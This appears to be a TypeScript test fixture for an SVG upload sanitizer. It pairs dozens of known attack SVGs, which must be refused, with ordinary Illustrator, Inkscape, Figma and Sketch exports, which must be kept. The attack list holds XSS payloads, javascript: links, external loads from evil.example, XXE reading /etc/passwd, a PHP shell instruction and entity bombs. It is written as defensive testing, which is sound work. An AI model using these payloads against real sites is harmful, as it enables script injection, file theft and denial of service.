/**
 * Known SVG attack payloads (the four bypasses of issue 10, OWASP XSS filter evasion, PortSwigger
 * XSS cheat sheet, cure53 / DOMPurify tests, XXE and XML bomb classics), each a whole document as
 * an uploader would send it. Every one must be refused by the SVG check. `reason` is what the
 * sanitizer answers: `unsafe` (an attack, "SVG dosyası betik...") unless the payload is also not
 * well-formed XML (`notSvg`, refused as content that does not match .svg).
 */
export interface SvgAttack {
  name: string;
  svg: string;
  reason: 'unsafe' | 'notSvg';
}

const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';
const XHTML = 'http://www.w3.org/1999/xhtml';

/** A document around `body`, with the SVG and XLink namespaces declared as design tools do. */
export const svgDocument = (body: string, rootAttributes = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 100 100"${rootAttributes}>${body}</svg>`;

const unsafe = (name: string, svg: string): SvgAttack => ({ name, svg, reason: 'unsafe' });
const illFormed = (name: string, svg: string): SvgAttack => ({ name, svg, reason: 'notSvg' });

/** `<svg id="rectangle"><a href="javascript:alert(location)"><rect .../></a></svg>`, base64. */
const NESTED_SVG_BASE64 = Buffer.from(
  `<svg id="rectangle" xmlns="${SVG}" width="100" height="100"><a href="javascript:alert(location)"><rect x="0" y="0" width="100" height="100"/></a></svg>`,
).toString('base64');
const HTML_BASE64 = Buffer.from('<script>alert(document.domain)</script>').toString('base64');

/** The four bypasses of the regex blocklist reported in issue 10, item 5. */
export const ISSUE_BYPASSES: SvgAttack[] = [
  unsafe(
    'SVG-namespace script behind a prefix (<s:script>)',
    svgDocument(`<s:script xmlns:s="${SVG}">alert(document.domain)</s:script>`),
  ),
  unsafe(
    'XHTML-namespace script (<h:script>)',
    svgDocument(`<h:script xmlns:h="${XHTML}">alert(document.domain)</h:script>`),
  ),
  unsafe(
    '<set attributeName="href"> to an entity-encoded javascript: URL',
    svgDocument('<a><set attributeName="href" to="&#106;avascript:alert(1)"/><text y="50">click</text></a>'),
  ),
  unsafe(
    'CSS escape u\\72l(https://…) in a style',
    svgDocument('<style>rect { fill: u\\72l(https://evil.example/p.svg#paint) }</style><rect width="10" height="10"/>'),
  ),
];

export const SVG_ATTACKS: SvgAttack[] = [
  ...ISSUE_BYPASSES,

  // Scripts, in every spelling and namespace.
  unsafe('onload on the svg root', svgDocument('<rect width="1" height="1"/>', ' onload="alert(1)"')),
  unsafe(
    'script with CDATA',
    svgDocument('<script type="text/ecmascript"><![CDATA[ alert(document.cookie) ]]></script>'),
  ),
  unsafe('external script (xlink:href)', svgDocument('<script xlink:href="https://evil.example/x.js"/>')),
  unsafe('upper-case SCRIPT element', svgDocument('<SCRIPT>alert(1)</SCRIPT>')),
  unsafe(
    'prefixed root and script (<svg:svg>, <svg:script>)',
    `<svg:svg xmlns:svg="${SVG}"><svg:script>alert(1)</svg:script></svg:svg>`,
  ),
  unsafe('script in removable metadata', svgDocument('<metadata><script>alert(1)</script></metadata>')),
  unsafe(
    'XHTML script inside Inkscape editor data',
    svgDocument(
      `<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"><h:script xmlns:h="${XHTML}">alert(1)</h:script></sodipodi:namedview>`,
    ),
  ),
  unsafe(
    'SVG Tiny 1.2 handler element with XML Events',
    svgDocument(
      '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="application/ecmascript">alert(1)</handler>',
    ),
  ),
  unsafe(
    'XML Events listener',
    svgDocument(
      '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h" observer="r"/><rect id="r"/>',
    ),
  ),

  // Event handlers.
  unsafe('onclick on a shape', svgDocument('<rect width="10" height="10" onclick="alert(1)"/>')),
  unsafe('ONMOUSEOVER in upper case', svgDocument('<circle r="5" ONMOUSEOVER="alert(1)"/>')),
  unsafe(
    'event handler in another namespace (x:onclick)',
    svgDocument('<rect xmlns:x="http://example.com/x" x:onclick="alert(1)" width="5" height="5"/>'),
  ),
  unsafe(
    'onbegin on an animation',
    svgDocument('<rect><animate attributeName="x" dur="1s" onbegin="alert(1)"/></rect>'),
  ),
  illFormed(
    'handler with an entity-encoded name (&#x6F;nload)',
    `<svg xmlns="${SVG}" &#x6F;nload="alert(1)"><rect/></svg>`,
  ),

  // javascript:, vbscript: and data: links.
  unsafe(
    'xlink:href=javascript: on <a>',
    svgDocument('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
  ),
  unsafe('href=javascript: on <a> (SVG 2)', svgDocument('<a href="javascript:alert(1)"><text y="9">x</text></a>')),
  unsafe(
    'mixed-case JaVaScRiPt with tab and newline',
    svgDocument('<a href="  JaVa&#x09;ScRiPt&#x0A;:alert(1)"><rect width="9" height="9"/></a>'),
  ),
  unsafe(
    'JaVaScRiPt with literal tab and leading newline',
    svgDocument('<a href="\n\tJaVaScRiPt\t:alert(1)"><rect width="9" height="9"/></a>'),
  ),
  unsafe('&#x6A;avascript: (hex character reference)', svgDocument('<a href="&#x6A;avascript:alert(1)"><rect/></a>')),
  unsafe('jav&#97;script: (decimal character reference)', svgDocument('<a href="jav&#97;script:alert(1)"><rect/></a>')),
  unsafe('vbscript: link', svgDocument('<a href="vbscript:msgbox(1)"><rect/></a>')),
  unsafe(
    'base64 data:text/html link',
    svgDocument(`<a href="data:text/html;base64,${HTML_BASE64}"><rect width="9" height="9"/></a>`),
  ),
  unsafe('external https link on <a>', svgDocument('<a href="https://evil.example/phish"><rect/></a>')),
  unsafe('protocol-relative link', svgDocument('<a href="//evil.example/"><rect/></a>')),
  unsafe(
    'xml:base pointing to javascript:',
    svgDocument('<a xml:base="javascript:alert(1)//" href="#x"><rect id="x"/></a>'),
  ),

  // Animation of links and handlers.
  unsafe(
    '<animate> of href with javascript: values',
    svgDocument('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>'),
  ),
  unsafe(
    '<animate> of xlink:href from/to javascript:',
    svgDocument(
      '<a xlink:href="#"><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)" dur="1s"/><rect/></a>',
    ),
  ),
  unsafe('<set> of an event attribute', svgDocument('<rect><set attributeName="onclick" to="alert(1)"/></rect>')),
  unsafe('<set> of style', svgDocument('<rect><set attributeName="style" to="fill:red"/></rect>')),
  unsafe(
    '<animate> values with an external url()',
    svgDocument('<rect><animate attributeName="fill" values="red;url(https://evil.example/p.svg#g)" dur="1s"/></rect>'),
  ),

  // Foreign content.
  unsafe(
    'foreignObject with an XHTML iframe',
    svgDocument(
      `<foreignObject width="100" height="100"><iframe xmlns="${XHTML}" src="javascript:alert(1)"/></foreignObject>`,
    ),
  ),
  unsafe(
    'foreignObject with an HTML body onload',
    svgDocument(`<foreignObject><body xmlns="${XHTML}" onload="alert(1)"/></foreignObject>`),
  ),
  unsafe(
    'iframe in the XHTML namespace with srcdoc',
    svgDocument(`<iframe xmlns="${XHTML}" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
  ),
  unsafe('XHTML img with onerror', svgDocument(`<h:img xmlns:h="${XHTML}" src="x" onerror="alert(1)"/>`)),
  unsafe('embed element', svgDocument('<embed src="https://evil.example/x.swf"/>')),
  unsafe('object element with data:', svgDocument(`<object data="data:text/html;base64,${HTML_BASE64}"/>`)),
  unsafe(
    'MathML maction with a javascript: link',
    svgDocument(
      '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
  ),
  unsafe(
    'XSLT element',
    svgDocument('<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'x\')"/>'),
  ),
  unsafe(
    'XInclude of a local file',
    svgDocument('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  ),
  unsafe('unknown foreign element', svgDocument('<x:widget xmlns:x="http://example.com/widgets"/>')),

  // External references.
  unsafe('use with an external href', svgDocument('<use href="https://evil.example/sprite.svg#icon"/>')),
  unsafe('use with a relative external href', svgDocument('<use xlink:href="sprite.svg#icon"/>')),
  unsafe(
    'use with a data: SVG URI (PortSwigger)',
    svgDocument(`<use xlink:href="data:image/svg+xml;base64,${NESTED_SVG_BASE64}#rectangle"/>`),
  ),
  unsafe(
    'image with an http href (tracking pixel)',
    svgDocument('<image href="http://evil.example/t.png" width="1" height="1"/>'),
  ),
  unsafe('image with a data: SVG', svgDocument(`<image xlink:href="data:image/svg+xml;base64,${NESTED_SVG_BASE64}"/>`)),
  unsafe(
    'feImage with an external href',
    svgDocument('<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)"/>'),
  ),
  unsafe(
    'feImage with a data:text/html href',
    svgDocument(`<filter id="f"><feImage xlink:href="data:text/html;base64,${HTML_BASE64}"/></filter>`),
  ),
  unsafe(
    'textPath with an external path',
    svgDocument('<text><textPath href="https://evil.example/p.svg#p">x</textPath></text>'),
  ),
  unsafe('tref of external text', svgDocument('<text><tref xlink:href="https://evil.example/t.svg#t"/></text>')),
  unsafe(
    'font-face-uri of an external font',
    svgDocument('<font-face><font-face-uri xlink:href="https://evil.example/f.svg#f"/></font-face>'),
  ),

  // CSS.
  unsafe('style @import url()', svgDocument('<style>@import url(https://evil.example/x.css);</style>')),
  unsafe(
    'style @import of a string, escaped, in CDATA',
    svgDocument('<style><![CDATA[ @im\\port "https://evil.example/x.css"; ]]></style>'),
  ),
  unsafe(
    'style attribute with \\000075 escapes',
    svgDocument('<rect style="fill:\\000075 \\72 \\6c (https://evil.example/p.svg#g)"/>'),
  ),
  unsafe(
    'presentation attribute u\\rl() (identity escape)',
    svgDocument('<rect fill="u\\rl(https://evil.example/p.svg#g)"/>'),
  ),
  unsafe('url() hidden behind a comment', svgDocument('<rect style="fill:url(/**/https://evil.example/p.svg#g)"/>')),
  unsafe(
    'filter url() to a data: SVG',
    svgDocument(`<rect filter="url(data:image/svg+xml;base64,${NESTED_SVG_BASE64}#f)"/>`),
  ),
  unsafe(
    'url("javascript:") in a style attribute',
    svgDocument('<rect style="background-image:url(&quot;javascript:alert(1)&quot;)"/>'),
  ),
  unsafe('CSS expression()', svgDocument('<rect style="width:expr/**/ession(alert(1))"/>')),
  unsafe('IE behavior', svgDocument('<style>svg { behavior: url(#default#time2) }</style>')),
  unsafe('-moz-binding', svgDocument('<style>rect { -moz-binding: url(https://evil.example/x.xml#x) }</style>')),
  unsafe(
    'image-set() with a string URL',
    svgDocument('<style>rect { fill: image-set("https://evil.example/x.png" 1x) }</style>'),
  ),
  unsafe('external cursor', svgDocument('<rect style="cursor:url(https://evil.example/c.cur),auto"/>')),
  unsafe('style of another type (XSLT)', svgDocument('<style type="text/xsl">x</style>')),
  unsafe(
    'markup in a style (HTML breakout when inlined)',
    svgDocument('<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>'),
  ),

  // DOCTYPE, entities, processing instructions, hidden markup.
  unsafe(
    'billion laughs (entity expansion)',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="${SVG}"><text>&c;</text></svg>`,
  ),
  unsafe(
    'XXE: external entity SYSTEM file:///etc/passwd',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG}"><text>&xxe;</text></svg>`,
  ),
  unsafe(
    'XXE: parameter entity to a remote DTD',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]><svg xmlns="${SVG}"/>`,
  ),
  unsafe('external DTD (SYSTEM)', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd"><svg xmlns="${SVG}"/>`),
  unsafe(
    'xml-stylesheet processing instruction (XSLT)',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg xmlns="${SVG}"/>`,
  ),
  unsafe('processing instruction inside the drawing', svgDocument('<?php system($_GET["c"]); ?><rect/>')),
  unsafe(
    'script hidden in CDATA inside text',
    svgDocument('<text><![CDATA[</text><script>alert(1)</script><text>]]></text>'),
  ),
  unsafe('double-encoded script in a title', svgDocument('<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>')),
  unsafe(
    'nesting bomb (100 000 levels)',
    `<svg xmlns="${SVG}">${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`,
  ),
];

/** A 1×1 PNG, as design tools embed pictures. */
const PNG_1PX = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

export interface DesignerSvg {
  name: string;
  svg: string | Buffer;
  /** Must still be in the cleaned output (the drawing). */
  keeps: string[];
  /** Editor leftovers that must be gone. */
  drops: string[];
}

/** Ordinary SVGs as design tools export them: accepted, their drawing kept. */
export const DESIGNER_SVGS: DesignerSvg[] = [
  {
    name: 'Adobe Illustrator export (DOCTYPE 1.1, style classes, gradient, xml:space)',
    svg: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="${SVG}" xmlns:xlink="${XLINK}" x="0px" y="0px"
\t viewBox="0 0 200 100" style="enable-background:new 0 0 200 100;" xml:space="preserve">
<style type="text/css">
\t.st0{fill:url(#SVGID_1_);}
\t.st1{fill:#1D1D1B;}
\t.st2{font-family:'Montserrat-Bold';}
\t.st3{font-size:24px;}
</style>
<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="10" y1="50" x2="90" y2="50">
\t<stop  offset="0" style="stop-color:#F39200"/>
\t<stop  offset="1" style="stop-color:#E6007E"/>
</linearGradient>
<path class="st0" d="M10,10h80v80H10V10z"/>
<g>
\t<polygon class="st1" points="120,10 190,10 155,90 \t"/>
</g>
<text transform="matrix(1 0 0 1 100 95)" class="st1 st2 st3">Ajans &amp; Co</text>
</svg>
`,
    keeps: [
      '<linearGradient id="SVGID_1_"',
      '<stop offset="0" style="stop-color:#F39200"/>',
      '.st0{fill:url(#SVGID_1_);}',
      '<path class="st0" d="M10,10h80v80H10V10z"/>',
      '<polygon class="st1"',
      'xml:space="preserve"',
      'viewBox="0 0 200 100"',
      'style="enable-background:new 0 0 200 100;"',
      '>Ajans &amp; Co</text>',
    ],
    drops: ['DOCTYPE', 'Generator', '<!--'],
  },
  {
    name: 'Inkscape export (sodipodi/inkscape attributes, namedview, RDF metadata, gradient href)',
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg
   width="210mm"
   height="100mm"
   viewBox="0 0 210 100"
   version="1.1"
   id="svg5"
   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)"
   sodipodi:docname="logo.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="${XLINK}"
   xmlns="${SVG}"
   xmlns:svg="${SVG}"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview
     id="namedview7"
     pagecolor="#ffffff"
     inkscape:zoom="0.7"
     inkscape:current-layer="layer1">
    <inkscape:grid type="xygrid" id="grid1"/>
  </sodipodi:namedview>
  <defs id="defs2">
    <linearGradient inkscape:collect="always" id="linearGradient1">
      <stop style="stop-color:#0055d4;stop-opacity:1" offset="0" id="stop1"/>
      <stop style="stop-color:#0055d4;stop-opacity:0" offset="1" id="stop2"/>
    </linearGradient>
    <radialGradient inkscape:collect="always" xlink:href="#linearGradient1" id="radialGradient3"
       cx="50" cy="50" fx="50" fy="50" r="40" gradientUnits="userSpaceOnUse"/>
  </defs>
  <metadata id="metadata5">
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>
        <dc:title>Logo</dc:title>
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <g inkscape:label="Katman 1" inkscape:groupmode="layer" id="layer1">
    <circle style="fill:url(#radialGradient3);stroke:#000000;stroke-width:0.5" id="path1" cx="50" cy="50" r="40"/>
    <path style="fill:none;stroke:#ff6600;stroke-width:2" d="m 100,20 50,60 h 40"
       id="path2" sodipodi:nodetypes="ccc" inkscape:connector-curvature="0"/>
    <text xml:space="preserve" style="font-size:12px;font-family:sans-serif" x="100" y="95" id="text1"><tspan
         sodipodi:role="line" id="tspan1" x="100" y="95">Şirket</tspan></text>
  </g>
</svg>
`,
    keeps: [
      '<radialGradient xlink:href="#linearGradient1" id="radialGradient3"',
      'xmlns:xlink="http://www.w3.org/1999/xlink"',
      '<circle style="fill:url(#radialGradient3);stroke:#000000;stroke-width:0.5"',
      'd="m 100,20 50,60 h 40"',
      '<tspan id="tspan1" x="100" y="95">Şirket</tspan>',
      '<g id="layer1">',
    ],
    drops: ['sodipodi', 'inkscape', 'metadata', 'rdf', 'dc:', 'cc:', '<!--', 'namedview', 'xmlns:svg'],
  },
  {
    name: 'Figma export (clipPath, drop-shadow filter, pattern with an embedded PNG)',
    svg: `<svg width="120" height="40" viewBox="0 0 120 40" fill="none" xmlns="${SVG}" xmlns:xlink="${XLINK}">
<g clip-path="url(#clip0_12_3)">
<g filter="url(#filter0_d_12_3)">
<rect x="4" y="4" width="32" height="32" rx="8" fill="url(#pattern0)"/>
</g>
<path fill-rule="evenodd" clip-rule="evenodd" d="M48 12H112V28H48V12Z" fill="#111827"/>
</g>
<defs>
<filter id="filter0_d_12_3" x="0" y="4" width="40" height="40" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/>
<feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
<feOffset dy="4"/>
<feGaussianBlur stdDeviation="2"/>
<feComposite in2="hardAlpha" operator="out"/>
<feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.25 0"/>
<feBlend mode="normal" in2="BackgroundImageFix" result="effect1_dropShadow_12_3"/>
<feBlend mode="normal" in="SourceGraphic" in2="effect1_dropShadow_12_3" result="shape"/>
</filter>
<pattern id="pattern0" patternContentUnits="objectBoundingBox" width="1" height="1">
<use xlink:href="#image0_12_3" transform="scale(0.01)"/>
</pattern>
<clipPath id="clip0_12_3">
<rect width="120" height="40" fill="white"/>
</clipPath>
<image id="image0_12_3" width="100" height="100" xlink:href="data:image/png;base64,${PNG_1PX}"/>
</defs>
</svg>
`,
    keeps: [
      '<g clip-path="url(#clip0_12_3)">',
      '<feGaussianBlur stdDeviation="2"/>',
      '<feColorMatrix in="SourceAlpha" type="matrix"',
      '<feBlend mode="normal" in="SourceGraphic"',
      '<pattern id="pattern0"',
      '<use xlink:href="#image0_12_3" transform="scale(0.01)"/>',
      `xlink:href="data:image/png;base64,${PNG_1PX}"`,
      '<clipPath id="clip0_12_3">',
    ],
    drops: [],
  },
  {
    name: 'Sketch export (title, desc, symbol used by <use href>, mask, sketch:type)',
    svg: `<?xml version="1.0" encoding="UTF-8"?>
<svg width="24px" height="24px" viewBox="0 0 24 24" version="1.1" xmlns="${SVG}" xmlns:xlink="${XLINK}" xmlns:sketch="http://www.bohemiancoding.com/sketch/ns">
    <!-- Generator: Sketch 3.0.3 (7891) - http://www.bohemiancoding.com/sketch -->
    <title>marker</title>
    <desc>Created with Sketch.</desc>
    <defs>
        <symbol id="pin" viewBox="0 0 24 24"><path d="M12 2C8 2 5 5 5 9c0 5 7 13 7 13s7-8 7-13c0-4-3-7-7-7z"/></symbol>
        <mask id="hole" fill="white"><rect width="24" height="24"/><circle cx="12" cy="9" r="3" fill="black"/></mask>
    </defs>
    <g id="Page-1" stroke="none" stroke-width="1" fill="none" fill-rule="evenodd" sketch:type="MSPage">
        <use href="#pin" fill="#FF6600" mask="url(#hole)" sketch:type="MSShapeGroup"/>
    </g>
</svg>`,
    keeps: [
      '<title>marker</title>',
      '<desc>Created with Sketch.</desc>',
      '<symbol id="pin" viewBox="0 0 24 24">',
      '<use href="#pin" fill="#FF6600" mask="url(#hole)"/>',
      '<mask id="hole" fill="white">',
    ],
    drops: ['sketch:', 'Generator'],
  },
  {
    name: 'animated loader (animateTransform, animate, set of a local gradient)',
    svg: `<svg xmlns="${SVG}" viewBox="0 0 50 50" role="img" aria-label="Yükleniyor">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#f60"/><stop offset="1" stop-color="#fc0"/></linearGradient></defs>
  <circle cx="25" cy="25" r="20" fill="none" stroke="#f60" stroke-width="4" stroke-dasharray="60 100">
    <animateTransform attributeName="transform" type="rotate" from="0 25 25" to="360 25 25" dur="1s" repeatCount="indefinite"/>
  </circle>
  <rect x="20" y="20" width="10" height="10">
    <animate attributeName="opacity" values="1;0.2;1" dur="2s" repeatCount="indefinite"/>
    <set attributeName="fill" to="url(#g)" begin="1s"/>
  </rect>
</svg>`,
    keeps: [
      '<animateTransform attributeName="transform" type="rotate" from="0 25 25" to="360 25 25"',
      '<animate attributeName="opacity" values="1;0.2;1"',
      '<set attributeName="fill" to="url(#g)" begin="1s"/>',
      'aria-label="Yükleniyor"',
    ],
    drops: [],
  },
  {
    name: 'text logo (style with @font-face local(), dark-mode media query, textPath, marker, local link)',
    svg: `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 300 120">
  <style><![CDATA[
    @font-face { font-family: "Brand"; src: local("Brand Sans"), local("BrandSans-Regular"); }
    .mark { fill: #0a2540; font: 700 28px "Brand", sans-serif; }
    .line { stroke: #0a2540; marker-end: url(#arrow); }
    @media (prefers-color-scheme: dark) { .mark { fill: #ffffff; } }
    g > .mark:first-child { letter-spacing: .02em; }
  ]]></style>
  <defs>
    <marker id="arrow" markerWidth="10" markerHeight="10" refX="5" refY="5" orient="auto"><path d="M0 0L10 5L0 10z"/></marker>
    <path id="curve" d="M20 100 Q150 10 280 100"/>
  </defs>
  <a href="#top" id="top">
    <g><text class="mark"><textPath xlink:href="#curve" startOffset="50%" text-anchor="middle">Ajans <tspan dy="-2">Dijital</tspan></textPath></text></g>
  </a>
  <line class="line" x1="20" y1="110" x2="200" y2="110"/>
  <ellipse cx="250" cy="20" rx="10" ry="5"/><polyline points="0,0 5,5 10,0" fill="none" stroke="red"/>
</svg>`,
    keeps: [
      '@font-face { font-family: "Brand"; src: local("Brand Sans")',
      'g &gt; .mark:first-child',
      '<marker id="arrow"',
      '<textPath xlink:href="#curve" startOffset="50%" text-anchor="middle">Ajans <tspan dy="-2">Dijital</tspan></textPath>',
      '<a href="#top" id="top">',
      '<ellipse cx="250"',
      '<polyline points="0,0 5,5 10,0"',
    ],
    drops: ['CDATA'],
  },
  {
    name: 'ISO-8859-9 (Turkish) file from an older editor, with a BOM-less declaration',
    svg: Buffer.concat([
      Buffer.from(`<?xml version="1.0" encoding="ISO-8859-9"?>\n<svg xmlns="${SVG}" viewBox="0 0 10 10"><title>`),
      Buffer.from([0xde, 0x69, 0x72, 0x6b, 0x65, 0x74, 0x20, 0x6c, 0x6f, 0x67, 0x6f, 0x73, 0x75]), // Şirket logosu
      Buffer.from('</title><rect width="10" height="10" fill="#c00"/></svg>'),
    ]),
    keeps: ['<title>Şirket logosu</title>', '<rect width="10" height="10" fill="#c00"/>'],
    drops: ['ISO-8859-9'],
  },
  {
    name: 'UTF-8 BOM and CRLF line ends',
    svg: Buffer.from(
      `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<svg xmlns="${SVG}" viewBox="0 0 10 10">\r\n<circle cx="5" cy="5" r="4" fill="#0c0"/>\r\n</svg>\r\n`,
    ),
    keeps: ['<circle cx="5" cy="5" r="4" fill="#0c0"/>'],
    drops: ['\uFEFF', '\r'],
  },
];
